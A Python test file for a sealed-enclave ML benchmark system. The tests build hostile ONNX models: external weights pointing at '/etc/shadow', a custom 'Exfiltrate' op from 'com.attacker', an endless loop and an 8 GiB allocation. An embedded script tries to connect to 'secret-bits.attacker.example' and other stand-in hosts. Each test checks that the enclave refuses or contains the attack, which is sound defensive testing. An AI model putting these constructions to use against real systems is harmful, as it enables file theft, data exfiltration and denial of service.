"""A model is exactly its sealed bytes and is bounded (issue 28): each test is an attack.

External data (inside or outside the working directory) and unknown operator domains are refused
by structure at ``model check`` (both plug-ins) and when the enclave loads the model; an endless
``Loop`` and a huge allocation are stopped by the benchmark's declared limits as flagged
``timeout`` / ``memory`` failures while the run goes on; the run's time limit grows with the
cases, so a model spinning on one case cannot fail the others (issue 40); ONNX Runtime writes
nothing to disk; and a socket to an unpinned host is refused by the enclave's egress guard.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import textwrap
import time
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from onnx import TensorProto, helper, numpy_helper

from sealbench.benchmarks import interface as api
from sealbench.benchmarks.brats.plugin import BratsBenchmark
from sealbench.benchmarks.onnx_safety import (
    ExternalDataError,
    UnknownOpDomainError,
    check_self_contained,
)
from sealbench.benchmarks.registry import load
from sealbench.benchmarks.wdbc.data import FEATURES, WdbcCase, write_raw_csv
from sealbench.benchmarks.wdbc.plugin import PLUGIN as WDBC
from sealbench.benchmarks.wdbc.plugin import WdbcBenchmark
from sealbench.client.assets.store import seal_model
from sealbench.client.runs.result_open import download_result, open_result
from sealbench.contract.errors import AssetRejected, EgressRefused
from sealbench.contract.pin import BenchmarkPin
from sealbench.crypto.digest import sha256_digest
from sealbench.enclave import steps
from sealbench.enclave.network import EgressGuard, EgressPolicy
from sealbench.enclave.run import run_enclave
from sealbench.gcp._cs_claims import GOOGLE_ENDPOINTS
from sealbench.platforms import LocalBlobStore
from tests.unit.enclave.conftest import MODEL_KEY, SMALL, World, tiny_model

F = TensorProto.FLOAT
I64 = TensorProto.INT64
#: The feature value that makes the attack models misbehave on one case only.
TRIGGER = 500.0


def _model(graph: Any, *, opsets: tuple[tuple[str, int], ...] = (("", 17),)) -> bytes:
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid(d, v) for d, v in opsets])
    model.ir_version = 8
    return bytes(model.SerializeToString())


def _external(tensor: Any, location: str) -> Any:
    tensor.ClearField("raw_data")
    tensor.data_location = TensorProto.EXTERNAL
    entry = tensor.external_data.add()
    entry.key, entry.value = "location", location
    return tensor


def brats_model_with_external_weight(location: str) -> bytes:
    """The tiny BraTS model whose Conv weight lives in file ``location``."""
    weight = np.ones((4, 4, 1, 1, 1), np.float32)
    spatial = ["D", "H", "W"]
    graph = helper.make_graph(
        [helper.make_node("Conv", ["input", "w"], ["logits"], kernel_shape=[1, 1, 1])],
        "external",
        [helper.make_tensor_value_info("input", F, ["N", 4, *spatial])],
        [helper.make_tensor_value_info("logits", F, ["N", 4, *spatial])],
        [_external(numpy_helper.from_array(weight, "w"), location)],
    )
    return _model(graph)


def wdbc_model(extra: list[Any], scalar: str, initializers: list[Any]) -> bytes:
    """A WDBC classifier (softmax of a linear map) plus ``extra`` nodes whose float scalar
    ``scalar`` is added times 0 to the logits, so that it must be computed. ``trigger`` is
    True when the case's first feature exceeds :data:`TRIGGER`."""
    weight = np.zeros((len(FEATURES), 2), np.float32)
    nodes = [
        helper.make_node("ReduceMax", ["input"], ["top"], keepdims=0),
        helper.make_node("Greater", ["top", "threshold"], ["trigger"]),
        *extra,
        helper.make_node("Mul", [scalar, "zero"], ["nothing"]),
        helper.make_node("MatMul", ["input", "w"], ["linear"]),
        helper.make_node("Add", ["linear", "nothing"], ["logits"]),
        helper.make_node("Softmax", ["logits"], ["probabilities"], axis=1),
    ]
    graph = helper.make_graph(
        nodes, "attack",
        [helper.make_tensor_value_info("input", F, ["N", len(FEATURES)])],
        [helper.make_tensor_value_info("probabilities", F, ["N", 2])],
        [numpy_helper.from_array(weight, "w"),
         numpy_helper.from_array(np.array(TRIGGER, np.float32), "threshold"),
         numpy_helper.from_array(np.array(0.0, np.float32), "zero"), *initializers],
    )
    return _model(graph)


def endless_loop_model() -> bytes:
    """2^31 iterations of a Loop on the triggering case, one on the others."""
    body = helper.make_graph(
        [helper.make_node("Identity", ["cond_in"], ["cond_out"]),
         helper.make_node("Add", ["v_in", "one"], ["v_out"])],
        "body",
        [helper.make_tensor_value_info("i", I64, []),
         helper.make_tensor_value_info("cond_in", TensorProto.BOOL, []),
         helper.make_tensor_value_info("v_in", F, [])],
        [helper.make_tensor_value_info("cond_out", TensorProto.BOOL, []),
         helper.make_tensor_value_info("v_out", F, [])],
        [numpy_helper.from_array(np.array(1.0, np.float32), "one")],
    )
    extra = [helper.make_node("Where", ["trigger", "endless", "once"], ["trips"]),
             helper.make_node("Loop", ["trips", "", "top"], ["counted"], body=body)]
    return wdbc_model(extra, "counted", [
        numpy_helper.from_array(np.array(2**31, np.int64), "endless"),
        numpy_helper.from_array(np.array(1, np.int64), "once")])


def huge_allocation_model() -> bytes:
    """An 8 GiB tensor (2^31 floats) on the triggering case, one float on the others."""
    extra = [helper.make_node("Where", ["trigger", "huge", "small"], ["shape"]),
             helper.make_node("ConstantOfShape", ["shape"], ["block"],
                              value=helper.make_tensor("v", F, [1], [1.0])),
             helper.make_node("ReduceSum", ["block"], ["total"], keepdims=0)]
    return wdbc_model(extra, "total", [
        numpy_helper.from_array(np.array([2**31], np.int64), "huge"),
        numpy_helper.from_array(np.array([1], np.int64), "small")])


# -- external data and unknown domains: refused by structure ---------------------------------


def _assert_refused_everywhere(model: bytes, error: type[Exception], world: World) -> None:
    for plugin in (BratsBenchmark(SMALL), WDBC):
        with pytest.raises(error):
            plugin.check_model(model)
        with pytest.raises(error):
            plugin.load_model(model)
    with pytest.raises(AssetRejected):
        _run_with_model(world, model)


def _run_with_model(world: World, model: bytes, **run: Any) -> Any:
    """Run the enclave on ``model``, sealed by the model owner to a fresh bucket."""
    path = world.root / "attack.onnx"
    path.write_bytes(model)
    bucket = LocalBlobStore(world.root / f"attack-bucket-{sha256_digest(model)[7:19]}")
    sealed = seal_model(path, asset_id="model-1", key_wrapper=world.access.wrappers[MODEL_KEY],
                        store=bucket, prefix="")
    location = {**world.spec.model.model_dump(), "uri": f"file://{bucket.root}"}
    spec = world.with_spec(model=location, model_digest=sealed.digest)
    return run_enclave(spec.to_environ(), world.attester(spec), access=lambda _r: world.access,
                       **run)


def test_external_data_inside_the_working_directory_is_refused(
    world: World, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # the file ONNX Runtime would read sits in the enclave's working directory
    monkeypatch.chdir(tmp_path)
    (tmp_path / "weights.bin").write_bytes(np.ones(16, np.float32).tobytes())
    _assert_refused_everywhere(brats_model_with_external_weight("weights.bin"),
                               ExternalDataError, world)


def test_external_data_outside_the_working_directory_is_refused(
    world: World, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    outside = tmp_path / "elsewhere" / "weights.bin"
    outside.parent.mkdir()
    outside.write_bytes(np.ones(16, np.float32).tobytes())
    monkeypatch.chdir(world.root)
    for location in (str(outside), "../elsewhere/weights.bin"):
        _assert_refused_everywhere(brats_model_with_external_weight(location),
                                   ExternalDataError, world)


def test_external_data_hidden_in_a_loop_body_is_refused() -> None:
    body = helper.make_graph(
        [helper.make_node("Identity", ["c"], ["c_out"]),
         helper.make_node("Add", ["v", "secret"], ["v_out"])],
        "body",
        [helper.make_tensor_value_info("i", I64, []),
         helper.make_tensor_value_info("c", TensorProto.BOOL, []),
         helper.make_tensor_value_info("v", F, [4])],
        [helper.make_tensor_value_info("c_out", TensorProto.BOOL, []),
         helper.make_tensor_value_info("v_out", F, [4])],
        [_external(numpy_helper.from_array(np.ones(4, np.float32), "secret"), "/etc/shadow")],
    )
    then = helper.make_graph([helper.make_node("Loop", ["n", "", "x"], ["y"], body=body)],
                             "then", [], [helper.make_tensor_value_info("y", F, [4])])
    graph = helper.make_graph(
        [helper.make_node("If", ["flag"], ["out"], then_branch=then, else_branch=then)],
        "nested", [helper.make_tensor_value_info("x", F, [4])],
        [helper.make_tensor_value_info("out", F, [4])],
        [numpy_helper.from_array(np.array(True), "flag"),
         numpy_helper.from_array(np.array(1, np.int64), "n")])
    with pytest.raises(ExternalDataError, match="subgraph"):
        check_self_contained(_model(graph))


def test_unknown_op_domain_is_refused(world: World) -> None:
    spatial = ["D", "H", "W"]
    graph = helper.make_graph(
        [helper.make_node("Exfiltrate", ["input"], ["logits"], domain="com.attacker")],
        "custom",
        [helper.make_tensor_value_info("input", F, ["N", 4, *spatial])],
        [helper.make_tensor_value_info("logits", F, ["N", 4, *spatial])],
    )
    model = _model(graph, opsets=(("", 17), ("com.attacker", 1)))
    for plugin in (BratsBenchmark(SMALL), WDBC):
        with pytest.raises(UnknownOpDomainError, match=r"com\.attacker"):
            plugin.check_model(model)


def test_shipped_models_are_self_contained() -> None:
    pins = ("brats-2023-gli/1", "brats-2025-gli/1", "brats-2025-met/1")
    for plugin in (*(load(BenchmarkPin.parse(pin)) for pin in pins), WDBC):
        assert plugin.shipped_models, plugin.ref
        for shipped in plugin.shipped_models:
            plugin.check_model(plugin.model_bytes(shipped.name))


# -- time and memory limits: bounded, flagged, the run goes on --------------------------------


def _data_memory() -> int:
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith("VmData:"):
            return int(line.split()[1]) * 1024
    raise AssertionError("no VmData")


def _wdbc_world(root: Path, world_factory: Any, features: dict[str, float]) -> World:
    raw = root / "raw"
    raw.mkdir(parents=True)
    cases = [WdbcCase(case_id, (value,) + (1.0,) * (len(FEATURES) - 1), i % 2 == 0)
             for i, (case_id, value) in enumerate(sorted(features.items()))]
    write_raw_csv(raw / "cases.csv", cases)
    WDBC.prepare(raw, root / "prepared")
    world: World = world_factory(root / "world", prepared=root / "prepared")
    world.spec = world.with_spec(metrics_version="wdbc/1")
    return world


def _limited(monkeypatch: pytest.MonkeyPatch, limits: api.RunLimits) -> None:
    """The run's plug-in is WDBC with ``limits`` (as a plug-in release declaring them)."""
    def benchmark_for(pin: BenchmarkPin) -> Any:
        plugin = load(pin)
        copy = type(plugin).__new__(type(plugin))
        copy.__dict__.update(plugin.__dict__, run_limits=limits)
        return copy

    monkeypatch.setattr(steps, "benchmark_for", benchmark_for)


def _per_case(world: World) -> dict[str, Any]:
    opened = open_result(download_result(LocalBlobStore(world.results()), ""), world.recipient)
    return {c.case_id: c for c in opened.cases}


def test_endless_loop_is_stopped_as_timeout_and_the_next_case_is_scored(
    tmp_path: Path, world_factory: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    world = _wdbc_world(tmp_path, world_factory,
                        {"case-a": 1.0, "case-b": TRIGGER * 2, "case-c": 1.0})
    _limited(monkeypatch, api.RunLimits(case_seconds=1.0, run_seconds=60.0,
                                        memory_bytes=_data_memory() + (2 << 30)))
    started = time.monotonic()
    _run_with_model(world, endless_loop_model())
    elapsed = time.monotonic() - started
    cases = _per_case(world)
    assert cases["case-b"].failed and cases["case-b"].reason == "timeout"
    assert not cases["case-a"].failed and not cases["case-c"].failed  # the run went on
    assert elapsed < 20  # the Loop of 2^31 iterations was stopped after about a second


def test_huge_allocation_is_a_memory_failure_and_the_run_goes_on(
    tmp_path: Path, world_factory: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    world = _wdbc_world(tmp_path, world_factory,
                        {"case-a": 1.0, "case-b": TRIGGER * 2, "case-c": 1.0})
    # the 8 GiB tensor is far over the declared limit, whatever this machine could give; the
    # 2 GiB of headroom are for what the run itself maps before the model (thread stacks,
    # ONNX Runtime's arenas), which in a long test process left 1 GiB short of the data step
    _limited(monkeypatch, api.RunLimits(case_seconds=30.0, run_seconds=60.0,
                                        memory_bytes=_data_memory() + (2 << 30)))
    _run_with_model(world, huge_allocation_model())
    cases = _per_case(world)
    assert cases["case-b"].failed and cases["case-b"].reason == "memory"
    assert not cases["case-a"].failed and not cases["case-c"].failed


def test_model_spinning_on_one_case_cannot_spend_the_other_cases_time(
    tmp_path: Path, world_factory: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Issue 40: the run's time limit follows from the cases' (``n * case_seconds`` plus the
    plug-in's allowance for its own work). With a run limit that did not grow with the cases,
    a model that spun on one case spent the run's time and the cases after it were flagged
    ``timeout`` too: what it did with one case showed in the others' values. Here the plug-in's
    own allowance (0.5 s) is far below one case's limit, and only the spinning case fails."""
    world = _wdbc_world(tmp_path, world_factory,
                        {"case-a": 1.0, "case-b": TRIGGER * 2, "case-c": 1.0, "case-d": 1.0})
    _limited(monkeypatch, api.RunLimits(case_seconds=1.0, run_seconds=0.5,
                                        memory_bytes=_data_memory() + (2 << 30)))
    _run_with_model(world, endless_loop_model())
    cases = _per_case(world)
    assert cases["case-b"].failed and cases["case-b"].reason == "timeout"
    assert not any(cases[c].failed for c in ("case-a", "case-c", "case-d")), cases


def test_runtime_error_a_model_provokes_on_one_case_fails_only_that_case(
    tmp_path: Path, world_factory: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Issue 40: a model that makes the runtime raise something its plug-in does not translate
    (here a runner that lets ONNX Runtime's own error through on the trigger case) failed the
    whole run, a failure everyone reading the run sees. It fails that case only, its reason
    naming the error's type, never its text (which may quote the inputs)."""
    world = _wdbc_world(tmp_path, world_factory,
                        {"case-a": 1.0, "case-b": TRIGGER * 2, "case-c": 1.0})
    _raising_on_trigger(monkeypatch, RuntimeError("[ONNXRuntimeError] input 1000.0, 1.0"))
    _run_with_model(world, WDBC.model_bytes("wdbc_logreg"))
    cases = _per_case(world)
    assert cases["case-b"].failed
    assert cases["case-b"].reason == "inference failed: RuntimeError", cases["case-b"]
    assert not cases["case-a"].failed and not cases["case-c"].failed


def test_huge_error_text_a_model_provokes_is_clipped_in_its_case(
    tmp_path: Path, world_factory: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Issue 40: a plug-in's error may echo what the model output; a model that made it echo
    megabytes on chosen cases grew the per-case results with them (and past the document's
    cap, made them unreadable). The reason keeps 300 characters of it."""
    world = _wdbc_world(tmp_path, world_factory,
                        {"case-a": 1.0, "case-b": TRIGGER * 2, "case-c": 1.0})
    _raising_on_trigger(monkeypatch, api.InferenceError("output " + "9" * 1_000_000))
    _run_with_model(world, WDBC.model_bytes("wdbc_logreg"))
    reason = _per_case(world)["case-b"].reason
    assert reason.startswith("inference failed: output 999") and len(reason) < 400, len(reason)


def _raising_on_trigger(monkeypatch: pytest.MonkeyPatch, error: Exception) -> None:
    """The run's plug-in is WDBC whose runner raises ``error`` on the trigger case (as a plug-in
    that lets its runtime's error through would)."""
    class Raising:
        def __init__(self, inner: Any) -> None:
            self._inner = inner
            self.execution_provider = inner.execution_provider

        def predict(self, case: Any) -> Any:
            if case.features[0] > TRIGGER:
                raise error
            return self._inner.predict(case)

    def benchmark_for(pin: BenchmarkPin) -> Any:
        plugin = load(pin)
        copy = type(plugin).__new__(type(plugin))
        copy.__dict__.update(plugin.__dict__)
        copy.load_model = lambda model_bytes: Raising(plugin.load_model(model_bytes))
        return copy

    monkeypatch.setattr(steps, "benchmark_for", benchmark_for)


def test_run_limit_is_the_cases_limits_plus_the_plugins_allowance() -> None:
    from sealbench.enclave.evaluation import evaluation_seconds

    limits = api.RunLimits(case_seconds=10.0, run_seconds=3600.0)
    assert evaluation_seconds(limits, 0) == 3600.0
    assert evaluation_seconds(limits, 569) == 569 * 10.0 + 3600.0


def test_the_plugins_declare_their_limits() -> None:
    assert api.run_limits_of(WDBC).case_seconds == 10.0
    assert api.run_limits_of(BratsBenchmark(SMALL)).memory_bytes == 6 << 30
    assert api.run_limits_of(WdbcBenchmark().exact_release()) == api.run_limits_of(WDBC)
    assert api.run_limits_of(object()) == api.DEFAULT_RUN_LIMITS  # a plug-in of before limits


# -- nothing on disk, nothing on the network ------------------------------------------------


def test_onnx_runtime_writes_no_telemetry_to_disk(tmp_path: Path) -> None:
    home, cwd = tmp_path / "home", tmp_path / "cwd"
    home.mkdir()
    cwd.mkdir()
    env = {k: v for k, v in os.environ.items()
           if k not in ("ORT_DISABLE_TELEMETRY", "XDG_CACHE_HOME")}
    script = textwrap.dedent("""
        from sealbench.benchmarks.wdbc.plugin import PLUGIN
        runner = PLUGIN.load_model(PLUGIN.model_bytes(PLUGIN.shipped_models[0].name))
    """)
    subprocess.run([sys.executable, "-c", script], cwd=cwd, env={**env, "HOME": str(home)},
                   check=True, timeout=120)
    assert [p for p in home.rglob("*")] == [] and [p for p in cwd.rglob("*")] == []


_EGRESS_SCRIPT = textwrap.dedent("""
    import json, socket, sys
    from sealbench.contract.errors import EgressRefused
    from sealbench.enclave.network import install_egress_guard
    from sealbench.gcp._cs_claims import GOOGLE_ENDPOINTS

    guard = install_egress_guard()
    guard.pin(GOOGLE_ENDPOINTS)  # what run_enclave does once the run is attested
    outcome = {}

    def attempt(name, call):
        try:
            call()
            outcome[name] = "allowed"
        except EgressRefused as exc:
            outcome[name] = "refused: " + str(exc)
        except OSError as exc:  # allowed by the guard, failed on the network
            outcome[name] = "allowed"

    # what a plug-in (or code a model reaches) would do to exfiltrate
    attempt("connect", lambda: socket.create_connection(("203.0.113.9", 443), timeout=1))
    attempt("lookup", lambda: socket.getaddrinfo("secret-bits.attacker.example", 443))
    attempt("datagram", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(
        b"x", ("198.51.100.7", 53)))
    attempt("loopback", lambda: socket.create_connection(("127.0.0.1", 9), timeout=1))
    attempt("launcher", lambda: socket.socket(socket.AF_UNIX).connect(
        "/run/container_launcher/teeserver.sock"))
    print(json.dumps(outcome))
""")


def test_socket_to_an_unpinned_host_is_refused() -> None:
    # in a child process: an audit hook stays for the life of the process
    done = subprocess.run([sys.executable, "-c", _EGRESS_SCRIPT], capture_output=True, text=True,
                          check=True, timeout=120)
    outcome = json.loads(done.stdout.strip().splitlines()[-1])
    assert outcome["connect"] == ("refused: connection to 203.0.113.9:443 refused: not an "
                                  "endpoint this run pins")
    assert outcome["lookup"].startswith("refused: name lookup of secret-bits.attacker.example")
    assert outcome["datagram"].startswith("refused: connection to 198.51.100.7:53")
    assert outcome["loopback"].startswith("refused")  # only Google's endpoints are pinned
    assert outcome["launcher"] == "allowed"  # the launcher's socket stays reachable


def test_the_enclave_pins_the_egress_guard_to_the_attested_endpoints(world: World) -> None:
    guard = EgressGuard(frozenset(), EgressPolicy.attesting(()))
    guard.check("socket.connect", (None, ("127.0.0.1", 8080)))  # phase 1: loopback allowed
    run_enclave(world.spec.to_environ(), world.attester(), access=lambda _r: world.access,
                egress=guard)
    assert guard.policy == EgressPolicy.pinned(GOOGLE_ENDPOINTS, ())
    guard.check("socket.getaddrinfo", ("storage.googleapis.com", 443, 0, 0, 0))
    with pytest.raises(EgressRefused, match=r"127\.0\.0\.1:8080"):
        guard.check("socket.connect", (None, ("127.0.0.1", 8080)))


def test_egress_refusal_names_the_host_and_nothing_else() -> None:
    guard = EgressGuard(frozenset(), EgressPolicy.pinned(GOOGLE_ENDPOINTS, ()))
    with pytest.raises(EgressRefused) as caught:
        guard.check("socket.connect", (None, ("203.0.113.9", 443)))
    assert isinstance(caught.value, PermissionError)
    assert str(caught.value) == ("connection to 203.0.113.9:443 refused: not an endpoint this "
                                 "run pins")


def test_tiny_model_is_still_accepted() -> None:
    assert check_self_contained(tiny_model()) == 1
